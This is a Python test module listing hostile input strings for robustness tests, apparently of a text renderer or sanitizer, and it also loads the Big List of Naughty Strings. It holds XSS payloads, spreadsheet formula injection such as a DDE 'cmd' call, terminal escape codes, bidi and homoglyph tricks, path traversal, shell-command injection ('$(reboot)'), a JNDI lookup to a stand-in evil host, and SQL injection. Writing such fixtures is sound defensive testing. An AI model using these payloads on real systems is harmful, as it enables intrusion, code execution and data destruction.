"""Text that means harm: a list of our own, and the big list of naughty strings."""

from __future__ import annotations

import json
from functools import cache
from typing import Final

from tests.corpus import CORPUS

SCRIPTS: Final = (
    "<script>window.pwned=1</script>",
    "</script><img src=x onerror='window.pwned=1'>",
    "<!--<script>",
    "--><script>window.pwned=1</script>",
    "</title></style><svg onload=window.pwned=1>",
    "]]>{{data}}{{script}}${window.pwned=1}",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "javascript:window.pwned=1",
    "\" onfocus='window.pwned=1' autofocus x='",
    "' onmouseover=window.pwned=1 x=\"",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<base href=http://evil.invalid/><meta http-equiv=refresh content=0;url=http://evil.invalid/>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "&lt;script&gt;&#60;script&#62;&#x3c;script>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x></svg>",
    "</td></tr></table><form action=http://evil.invalid><input>",
    "\\u003cscript\\u003ewindow.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}}",
)
FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1', '"" =1+1',
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid","x")', "\uff1d1+1",
    "\ufeff=1+1", "'=1+1",
    "it fell;=1+1", "it fell; \"=1+1", "it fell\t=1+1", "it fell\n@SUM(A1)", "\u200b=1+1",
    "=1+1;=2+2\n=3+3", "\x00=1+1", ";-1", "|=1+1", ",=1+1", '","=1+1', "\u3000=1+1",
)  # fmt: skip
CODES: Final = (
    "\x1b[2J\x1b[31mred", "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07", "\x1b]0;title\x07",
    "\x1b]52;c;cHduZWQ=\x07", "\x1bP$q\x1b\\", "\x9b31m\x9d0;x\x9c", "\x08\x08\x08gone", "a\rover",
    "\x07\x0b\x0c\x0e\x0f", "\x00nul\x00", "\x7f", "".join(map(chr, range(32))),
    "".join(map(chr, range(0x80, 0xA0))), "\x1b[8mhidden\x1b[0m", "\x1b[?1049h",
)  # fmt: skip
ORDERS: Final = (
    "\u202egnol\u202c", "\u2066x\u2069", "\u2067\u0627\u2069", "\u202b\u05d0\u05d1\u202c",
    "// if \u202e \u2066 is admin\u2069 \u2066", "\u061c\u200f\u200e", "שלום עולם", "مرحبا بالعالم",
    "\u2028\u2029", "\x85", "a\u200bb\u200cc\u200dd\u2060e\ufefff", "soft\u00adhyphen",
    "\U000e0041\U000e007f", "\u3164\u115f\u1160\uffa0\u2800", "e\u034f\u0301", "x\ufe0f\U000e0100",
)  # fmt: skip
LOOKS: Final = (
    "Russi\u0430", "\u0421h\u0456na", "\u0391\u03a1\u03a0",
    "\uff32\uff55\uff53\uff53\uff49\uff41", "R\u200bussia",
    "\U0001d411\U0001d42e\U0001d42c\U0001d42c\U0001d422\U0001d41a",
    "Ru\u0301\u0300\u0316ssia" + "\u0300" * 200, "Z" + "\u0315\u0351\u0489" * 60,
    "ﬁ ǆ ß İ \u0131 Å",
    "\u212bngstr\u00f6m", "I\u0307", "0x1F 1e999 NaN Infinity -0",
)  # fmt: skip
MARKS: Final = (
    "# heading", "- item", "1. item", "> quoted", "![x](http://evil.invalid/x.png)",
    "[x](javascript:window.pwned=1)", "[x]: http://evil.invalid", "[^1]: note", "[^1]", "`code`",
    "```\nfence\n```", "a | b | c", "<b>bold</b>", "<http://evil.invalid>", "***", "=====", "\\",
    "~~~", "$x$", "&copy;", "    code", "a\n\n# heading\n\n<script>x</script>", "http://evil.invalid",
    "www.evil.invalid", "@somebody #1", "|", "\\|", "---", "* * *", "+++", "<details><summary>",
)  # fmt: skip
LONG: Final = (
    "a" * 4000, "Ж" * 3000, "\U0001f600" * 900, "\u0300" * 2000, "<" * 1500, "&" * 1500,
    "\x1b" * 600, "=" * 1500, "word " * 700, "\u202e" * 500,
)  # fmt: skip
PATHS: Final = (
    "../../etc/passwd", "C:\\CON", "file:///etc/passwd", "$(reboot)", "`reboot`", "; reboot",
    "%s%n%x", "{0}{}{__class__}", "${jndi:ldap://evil.invalid}", "%00", "null", "None", "true",
    "' OR 1=1 --", '"; DROP TABLE event; --', "\\x00\\u0000", "]}],", "{}", "[]", '"', "'", "''",
)  # fmt: skip

OWN: Final = (*SCRIPTS, *FORMULAS, *CODES, *ORDERS, *LOOKS, *MARKS, *LONG, *PATHS)
"""Everything on our own list."""


@cache
def naughty() -> tuple[str, ...]:
    """The big list of naughty strings, but the empty one; none without the corpus."""
    path = CORPUS / "vectors" / "strings" / "blns.json"
    if not path.is_file():
        return ()
    found: list[str] = json.loads(path.read_text(encoding="utf-8"))
    return tuple(text for text in found if text)
